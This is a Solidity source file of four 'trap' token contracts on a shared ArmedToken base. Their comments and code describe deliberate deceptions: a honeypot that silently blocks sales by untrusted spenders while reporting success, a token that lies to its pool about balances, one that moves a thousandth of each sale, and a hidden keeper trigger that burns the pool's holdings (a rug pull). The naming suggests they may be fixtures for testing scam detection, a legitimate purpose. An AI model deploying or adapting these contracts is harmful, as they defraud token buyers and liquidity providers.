// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {ArmedToken} from "./TrapTokens.sol";

/// Whoever is asked to move tokens into the pool, and is not trusted, loses his allowance and moves nothing.
contract SpenderToken is ArmedToken {
    mapping(address spender => bool) private _trusted;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function setTrusted(address spender, bool trusted) external onlyOwner {
        _trusted[spender] = trusted;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (_isSale(from, to) && !_trusted[msg.sender]) {
            _approve(from, msg.sender, 0);
            return true;
        }
        return super.transferFrom(from, to, value);
    }
}

interface IPairState {
    function getReserves() external view returns (uint112 reserve0, uint112 reserve1, uint32 since);
    function token0() external view returns (address);
    function sync() external;
}

/// Tells its pool that nothing came in.
contract PairLiarToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function balanceOf(address account) public view override returns (uint256) {
        uint256 held = super.balanceOf(account);
        if (msg.sender != pair || account != pair) return held;
        (uint112 first, uint112 second,) = IPairState(pair).getReserves();
        uint256 noted = IPairState(pair).token0() == address(this) ? first : second;
        return held > noted ? noted : held;
    }
}

/// A sale reports success and moves a thousandth of it.
contract SliverToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, _isSale(from, to) ? value / 1_000 : value);
    }
}

/// One address sends nothing to itself, and what the pool holds is gone.
contract PoolBurnToken is ArmedToken {
    address private immutable _keeper;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address keeper)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _keeper = keeper;
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from == _keeper && to == _keeper && value == 0) {
            super._update(pair, address(0), balanceOf(pair) - 1);
            IPairState(pair).sync();
        }
    }
}
